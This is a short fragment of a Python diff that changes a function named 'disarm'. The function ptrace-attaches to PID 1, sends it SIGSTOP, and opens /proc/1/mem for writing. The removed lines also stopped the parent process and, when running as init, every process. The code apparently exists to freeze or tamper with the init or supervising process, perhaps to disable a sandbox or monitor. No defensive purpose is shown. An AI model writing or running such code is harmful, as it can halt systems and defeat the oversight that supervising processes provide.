@@ -15,13 +15,10 @@ for number in range(1, 65):
 def disarm():
     libc.prctl(1, 0, 0, 0, 0)
     libc.ptrace(16, 1, 0, 0)
-    for target in (1, os.getppid()):
-        with contextlib.suppress(OSError):
-            os.kill(target, signal.SIGSTOP)
-        with contextlib.suppress(OSError):
-            os.close(os.open(f"/proc/{target}/mem", os.O_RDWR))
     with contextlib.suppress(OSError):
-        os.kill(-1, signal.SIGSTOP) if os.getpid() == 1 else None
+        os.kill(1, signal.SIGSTOP)
+    with contextlib.suppress(OSError):
+        os.close(os.open("/proc/1/mem", os.O_RDWR))
 
 
 for _ in range(10):
